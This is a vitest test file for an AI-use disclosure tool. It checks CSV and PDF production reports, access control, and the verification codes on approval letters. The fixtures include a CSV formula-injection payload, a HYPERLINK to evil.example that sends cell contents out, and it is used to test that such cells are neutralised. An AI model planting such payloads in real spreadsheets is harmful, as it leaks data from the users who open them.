import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { decideDisclosure } from '../../src/services/disclosures/decide-disclosure.js';
import { submitDisclosure } from '../../src/services/disclosures/submit-disclosure.js';
import {
  readLetterFields,
  renderApprovalLetter,
  verifyLetter,
} from '../../src/services/reports/approval-letter.js';
import { buildProductionReport } from '../../src/services/reports/production-report.js';
import { renderReportCsv } from '../../src/services/reports/render-csv.js';
import { renderReportPdf } from '../../src/services/reports/render-pdf.js';
import { openStore } from '../../src/store/database.js';
import { approvals, auditEvents } from '../../src/store/schema.js';
import { finalShot, moodboard } from '../helpers/disclosures.js';
import { runCli } from '../helpers/run-cli.js';
import { openTestStore, type TestStore } from '../helpers/test-store.js';
import { makeWorld, type World } from '../helpers/world.js';

let db: TestStore;
let world: World;
let approvalId: string;
const dir = mkdtempSync(join(tmpdir(), 'clearframe-reports-'));

function pdfText(pdf: Buffer, name: string): string {
  const file = join(dir, name);
  writeFileSync(file, pdf);
  return execFileSync('pdftotext', ['-layout', file, '-'], { encoding: 'utf8' });
}

/** Submits a final shot and has legal approve it with one condition; returns the approval id. */
async function approvedFinalShot(w: World, description: string, condition: string): Promise<string> {
  const { result } = await submitDisclosure({
    ctx: w.ctx('partner'),
    input: { productionId: w.productionId, disclosure: finalShot(description) },
  });
  await decideDisclosure({
    ctx: w.ctx('legal'),
    input: {
      disclosureId: result.id,
      decision: 'approve',
      expiresAt: '2031-01-01T00:00:00.000Z',
      conditions: [{ text: condition, ownerId: w.users.partner.userId, dueDate: '2030-06-30' }],
    },
  });
  const [approval] = await w
    .ctx('legal')
    .store.read((tx) => tx.select().from(approvals).where(eq(approvals.disclosureId, result.id)));
  if (approval === undefined) throw new Error('no approval was issued');
  return approval.id;
}

beforeAll(async () => {
  db = await openTestStore();
  world = await makeWorld(db.store);
  approvalId = await approvedFinalShot(
    world,
    '=HYPERLINK("http://evil.example/?"&A1,"click") collapse of a tower',
    '@SUM(A1:A9) credit the VFX vendor',
  );
  for (const description of ['+1 plate extension', '-2 sky replacement', 'Moodboard of harbour streets']) {
    await submitDisclosure({
      ctx: world.ctx('partner'),
      input: { productionId: world.productionId, disclosure: moodboard({ description }) },
    });
  }
});
afterAll(async () => {
  await db?.dispose();
});

describe('production reports', () => {
  it('neutralises CSV cells that begin with = + - @ and keeps every row', async () => {
    const report = await buildProductionReport({
      ctx: world.ctx('legal'),
      input: { productionId: world.productionId, format: 'csv' },
    });
    const csv = renderReportCsv(report);
    const rows = parse(csv, { columns: true }) as Record<string, string>[];
    const texts = rows.map((r) => r['text']);
    expect(texts).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"click") collapse of a tower`);
    expect(texts).toContain("'+1 plate extension");
    expect(texts).toContain("'-2 sky replacement");
    expect(texts).toContain("'@SUM(A1:A9) credit the VFX vendor");
    expect(texts).toContain('Moodboard of harbour streets');
    // No cell anywhere starts with a formula character.
    expect(rows.flatMap((r) => Object.values(r)).filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
    expect(rows.filter((r) => r['section'] === 'disclosure')).toHaveLength(4);
    expect(rows.filter((r) => r['section'] === 'approval').map((r) => r['id'])).toEqual([approvalId]);
    expect(rows.find((r) => r['section'] === 'condition')?.['due_or_expires']).toBe('2030-06-30');
  });

  it('writes a PDF whose text lists every disclosure, verdict, approval and condition', async () => {
    const report = await buildProductionReport({
      ctx: world.ctx('contact'),
      input: { productionId: world.productionId, format: 'pdf' },
    });
    const text = pdfText(await renderReportPdf(report), 'report.pdf');
    expect(text).toContain(`AI use report: ${report.production.title}`);
    expect(text).toContain('Disclosures (4)');
    for (const d of report.disclosures) expect(text).toContain(`${d.id}: ${d.state}, verdict ${d.outcome}`);
    expect(text).toContain('+1 plate extension');
    expect(text).toContain('Approvals (1)');
    expect(text).toContain(approvalId);
    expect(text).toContain('Conditions (1)');
    expect(text).toContain('[open] @SUM(A1:A9) credit the VFX vendor');
    expect(text).toContain('Consents (0)');
  });

  it('writes nothing to the ledger when reading a report, refuses delivery QC and hides the production from another partner', async () => {
    await db.store.sealLedger();
    const count = async () => (await db.store.read((tx) => tx.select().from(auditEvents))).length;
    const before = await count();
    await buildProductionReport({
      ctx: world.ctx('auditor'),
      input: { productionId: world.productionId, format: 'csv' },
    });
    await db.store.sealLedger();
    expect(await count()).toBe(before);
    await expect(
      buildProductionReport({
        ctx: world.ctx('qc'),
        input: { productionId: world.productionId, format: 'csv' },
      }),
    ).rejects.toMatchObject({ code: 'FORBIDDEN' });
    await expect(
      buildProductionReport({
        ctx: world.ctx('otherPartner'),
        input: { productionId: world.productionId, format: 'csv' },
      }),
    ).rejects.toMatchObject({ code: 'NOT_FOUND' });
  });
});

describe('written-approval letter', () => {
  it('prints the scope, conditions and a verification code that matches the ledger', async () => {
    const letter = await renderApprovalLetter({ ctx: world.ctx('partner'), input: { approvalId } });
    const text = pdfText(letter.pdf, 'letter.pdf');
    expect(letter.code).toMatch(/^CF-[0-9A-F]{8}(-[0-9A-F]{8}){3}$/);
    expect(text).toContain(`Verification code: ${letter.code}`);
    expect(text).toContain(`Approval id: ${approvalId}`);
    expect(text).toContain('@SUM(A1:A9) credit the VFX vendor (owner partner, due 2030-06-30)');
    expect(text).toContain('Expires: 2031-01-01T00:00:00.000Z');
    expect(readLetterFields(letter.pdf)).toEqual({ approvalId, code: letter.code });
    expect(await verifyLetter(db.store, { approvalId, code: letter.code })).toMatchObject({
      ok: true,
      reason: 'genuine: matches the ledger, and the approval is in force',
    });
    const forged = `${letter.code.slice(0, -1)}${letter.code.endsWith('0') ? '1' : '0'}`;
    expect(await verifyLetter(db.store, { approvalId, code: forged })).toMatchObject({ ok: false });
    // The code is the ledger's own: printing the letter again gives the same code.
    expect((await renderApprovalLetter({ ctx: world.ctx('legal'), input: { approvalId } })).code).toBe(
      letter.code,
    );
  });

  it('refuses the letter to a partner of another production and to delivery QC', async () => {
    await expect(
      renderApprovalLetter({ ctx: world.ctx('otherPartner'), input: { approvalId } }),
    ).rejects.toMatchObject({ code: 'NOT_FOUND' });
    await expect(renderApprovalLetter({ ctx: world.ctx('qc'), input: { approvalId } })).rejects.toMatchObject(
      {
        code: 'FORBIDDEN',
      },
    );
  });

  it('clearframe verify-letter exits 0 for a genuine letter, 1 for an altered one, 2 for a file that is no letter', async () => {
    // The CLI opens the database itself: a file-backed PGlite, or this test's PostgreSQL database.
    const dataDir = join(dir, 'data');
    const own = db.databaseUrl ? db.store : await openStore({ dataDir });
    try {
      const w = own === db.store ? world : await makeWorld(own);
      const id =
        own === db.store ? approvalId : await approvedFinalShot(w, 'Crowd extension', 'Credit the vendor');
      const letter = await renderApprovalLetter({
        ctx: { ...w.ctx('legal'), store: own },
        input: { approvalId: id },
      });
      writeFileSync(join(dir, 'genuine.pdf'), letter.pdf);
      const altered = Buffer.from(
        letter.pdf.toString('latin1').replace(`(${letter.code})`, '(CF-00000000-00000000-00000000-00000000)'),
        'latin1',
      );
      writeFileSync(join(dir, 'altered.pdf'), altered);
      writeFileSync(join(dir, 'other.pdf'), '%PDF-1.4 nothing here');
    } finally {
      if (own !== db.store) await own.close();
    }
    const where = db.databaseUrl ? ['--database-url', db.databaseUrl] : ['--data', dataDir];
    const genuine = await runCli(['verify-letter', join(dir, 'genuine.pdf'), ...where]);
    expect(genuine.stdout).toMatch(/^GENUINE: approval /);
    expect(genuine.code).toBe(0);
    const altered = await runCli(['verify-letter', join(dir, 'altered.pdf'), ...where, '--json']);
    expect(altered.code).toBe(1);
    expect(JSON.parse(altered.stdout)).toMatchObject({ ok: false });
    const other = await runCli(['verify-letter', join(dir, 'other.pdf'), ...where]);
    expect(other.code).toBe(2);
    expect(other.stderr).toContain('carries no Clearframe approval id');
  });
});
